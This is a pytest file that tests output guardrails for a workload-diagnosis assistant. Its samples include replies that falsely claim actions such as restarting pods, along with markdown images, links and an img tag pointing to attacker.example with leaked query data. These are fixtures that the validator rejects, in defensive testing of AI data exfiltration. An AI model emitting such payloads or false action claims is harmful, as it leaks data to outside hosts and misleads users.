"""The rules for what model-written text may never say (guardrails/output_rules.py) carry their own proofs, and
the validator applies them: a reply that claims an action, shows an image or links outside the evidence fails;
the imperative, addressed to the user, and the evidence's own URLs pass."""
from __future__ import annotations

import pytest

from workload_diagnose.guardrails import validate_llm_output
from workload_diagnose.guardrails.output_rules import CLAIMS, LINKS, OutputRule

NAMES = ("OOM_KILLED", "NODE_FAILURE", "UNKNOWN")
EVIDENCE = ["Container trainer terminated: OOMKilled (exit code 137); limit 32Gi",
            "see https://docs.run.ai/latest/troubleshooting for the memory settings"]


def _check(text: str):
    return validate_llm_output(text, category="OOM_KILLED", evidence_texts=EVIDENCE, categories=NAMES)


@pytest.mark.parametrize("rule", CLAIMS + LINKS, ids=[r.id for r in CLAIMS + LINKS])
def test_every_rule_matches_its_true_samples_and_none_of_its_false_ones(rule: OutputRule):
    assert rule.true and rule.false, f"{rule.id}: a rule needs true and false samples"
    for t in rule.true:
        assert rule.rx.search(t), f"{rule.id} misses {t!r}"
    for f in rule.false:
        m = rule.rx.search(f)
        assert m is None or ("cond" in rule.rx.groupindex and m.group("cond")), f"{rule.id} matches {f!r}"


@pytest.mark.parametrize("text", [
    "OOM_KILLED. I have restarted your workload and deleted the failed pod. I also resubmitted the job.",
    "OOM_KILLED: the failed pod has been deleted and the limit was raised for you.",
    "OOM_KILLED. I fixed it: the workload is back up and running.",
    "OOM_KILLED. I'll resubmit it with a higher limit.",
    "OOM_KILLED. We scaled the deployment down.",
    "OOM_KILLED. I cordoned the node.",
    "OOM_KILLED. I patched the memory limit.",
])
def test_claimed_actions_are_rejected(text):
    v = _check(text)
    assert not v.ok and any("action" in r or "repaired" in r for r in v.reasons), v.reasons


@pytest.mark.parametrize("text", [
    "OOM_KILLED: the container was killed by the out-of-memory killer. Raise the memory limit above 32Gi, then "
    "resubmit the job.",
    "OOM_KILLED. You can restart the workload once the limit has been raised.",
    "OOM_KILLED. I have not changed anything: restart it yourself after raising the limit.",
    "OOM_KILLED. Memory settings: https://docs.run.ai/latest/troubleshooting.",
])
def test_imperative_advice_and_evidence_urls_pass(text):
    v = _check(text)
    assert v.ok, v.reasons


@pytest.mark.parametrize("text,why", [
    ("OOM_KILLED ![status](http://attacker.example/?q=OOMKilled)", "image"),
    ("OOM_KILLED ![status](https://docs.run.ai/latest/troubleshooting)", "image"),  # an image never, even known
    ("OOM_KILLED, details [here](http://attacker.example/?q=OOMKilled).", "link"),
    ("OOM_KILLED, details at http://attacker.example/?q=OOMKilled", "URL"),
    ("OOM_KILLED, see https://docs.run.ai/latest/troubleshooting?leak=OOMKilled", "URL"),  # not the exact URL
    ('OOM_KILLED <img src="http://attacker.example/p.png">', "image"),
])
def test_images_and_links_outside_the_evidence_are_rejected(text, why):
    v = _check(text)
    assert not v.ok and any(why.lower() in r.lower() for r in v.reasons), v.reasons
